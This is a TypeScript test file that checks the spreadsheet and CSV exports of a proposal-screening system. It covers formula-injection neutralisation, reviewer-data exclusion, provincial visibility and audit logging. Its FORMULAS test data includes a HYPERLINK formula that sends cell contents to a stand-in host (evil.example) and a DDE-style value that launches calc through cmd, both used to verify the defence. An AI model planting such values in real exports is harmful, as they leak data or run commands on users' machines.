import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { safeCell } from '../../server/proposals/screening-rules.js';
import { download, signedInAgent, type Agent } from '../support/agent.js';
import { makeCall } from '../support/call-factories.js';
import { makeInstitution, makeUser } from '../support/factories.js';
import { AuditEvent } from '../../server/platform/audit.js';
import { resetDb } from '../support/platform.js';
import { makeSubmittedProposal } from '../support/proposal-factories.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('screening exports (xlsx and csv)', () => {
  let agent: Agent;
  let titles: string[];
  beforeEach(async () => {
    await resetDb();
    const sh = await makeInstitution({ provinceCode: 'SH', nameZh: '=上海恶意单位' });
    const js = await makeInstitution({ provinceCode: 'JS', nameZh: '江苏导出大学' });
    const ah = await makeInstitution({ provinceCode: 'AH', nameZh: '安徽导出大学' });
    const call = await makeCall();
    titles = ['正常的联合攻关项目', ...FORMULAS];
    for (const title of titles) {
      await makeSubmittedProposal({
        call,
        pi: await makeUser(),
        title,
        partners: [{ institution: sh, requestedFen: 123_456_78 }, { institution: js, requestedFen: 100_000_00 }],
        exclusions: [{ expertName: '回避专家王某', expertInstitution: '某竞争单位', reason: '存在竞争关系' }],
      });
    }
    await makeSubmittedProposal({ call, pi: await makeUser(), title: '江苏安徽项目（上海不可见）', partners: [{ institution: js }, { institution: ah }] });
    const officer = await makeUser({ email: 'officer.sh@example.org', roles: [{ role: 'officer', provinceCode: 'SH' }] });
    agent = await signedInAgent(officer.email);
  });

  it('guards every text cell against formula injection', () => {
    expect(safeCell('=1+1')).to.equal("'=1+1");
    expect(safeCell('+1')).to.equal("'+1");
    expect(safeCell('-1')).to.equal("'-1");
    expect(safeCell('@A1')).to.equal("'@A1");
    expect(safeCell('\tx')).to.equal("'\tx");
    expect(safeCell('\rx')).to.equal("'\rx");
    expect(safeCell('复旦大学')).to.equal('复旦大学');
    expect(safeCell('a=b')).to.equal('a=b');
  });

  it('xlsx opens with exceljs and holds the visible rows, neutralised, with the total in 元', async () => {
    const res = await download(agent, '/screening/export.xlsx');
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.contain('spreadsheetml');
    expect(res.headers['content-disposition']).to.match(/^attachment; filename="screening-\d{8}\.xlsx"$/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    expect(header).to.include('受理编号').and.include('项目名称').and.include('申请资助总额（元）');
    const titleCol = header.indexOf('项目名称') + 1;
    const totalCol = header.indexOf('申请资助总额（元）') + 1;
    const leadCol = header.indexOf('牵头单位') + 1;
    const rows = [];
    for (let i = 2; i <= ws.rowCount; i++) rows.push(ws.getRow(i));
    expect(rows).to.have.length(titles.length);
    const exported = rows.map((r) => String(r.getCell(titleCol).value));
    // XML stores a carriage return as a line feed; what matters is the leading quote.
    expect(exported.sort()).to.deep.equal(titles.map((x) => safeCell(x).replace(/\r/g, '\n')).sort());
    for (const r of rows) {
      expect(r.getCell(totalCol).value).to.equal(223_456.78);
      expect(r.getCell(leadCol).value).to.equal("'=上海恶意单位");
      r.eachCell((cell) => {
        if (typeof cell.value === 'string') expect(cell.value, 'no cell starts a formula').to.not.match(/^[=+\-@\t\r]/);
        expect(cell.type, 'no formula cells').to.not.equal(ExcelJS.ValueType.Formula);
      });
    }
    const all = JSON.stringify(rows.map((r) => r.values));
    expect(all).to.not.contain('回避专家王某').and.not.contain('存在竞争关系').and.not.contain('江苏安徽项目');
  });

  it('csv starts with a UTF-8 BOM, keeps Chinese readable, neutralises formulas and holds no reviewer data', async () => {
    const res = await download(agent, '/screening/export.csv');
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.contain('text/csv');
    expect([...res.body.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const text = res.body.toString('utf8').slice(1);
    expect(text).to.contain('正常的联合攻关项目').and.contain('受理编号');
    expect(text).to.contain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
    expect(text).to.contain("'-2+3").and.contain("'@SUM(1,2)").and.contain("'+1+cmd");
    const wb = new ExcelJS.Workbook();
    const { Readable } = await import('node:stream');
    const ws = await wb.csv.read(Readable.from([text]), { parserOptions: { delimiter: ',' } } as never);
    const cells: string[] = [];
    ws.eachRow((row) => row.eachCell((c) => cells.push(String(c.value ?? ''))));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), 'cells that would start a formula').to.deep.equal([]);
    expect(text).to.not.contain('回避专家王某').and.not.contain('江苏安徽项目');
  });

  it('exports with the list filters applied, and refuses bad filters', async () => {
    const res = await download(agent, `/screening/export.csv?q=${encodeURIComponent('正常')}`);
    // Exports carry applicants' data: who took which list, with which filters, is in the audit log.
    const ev = (await AuditEvent.findOne({ where: { action: 'screening.export' }, order: [['id', 'DESC']] }))!;
    expect(ev, 'an audit event for the export').to.not.equal(null);
    const after = JSON.parse(ev.afterJson!);
    expect(after).to.include({ format: 'csv' });
    expect(after.filters.q).to.equal('正常');
    const text = res.body.toString('utf8');
    expect(text).to.contain('正常的联合攻关项目').and.not.contain('HYPERLINK');
    expect((await download(agent, '/screening/export.csv?sort=id')).status).to.equal(400);
  });
});
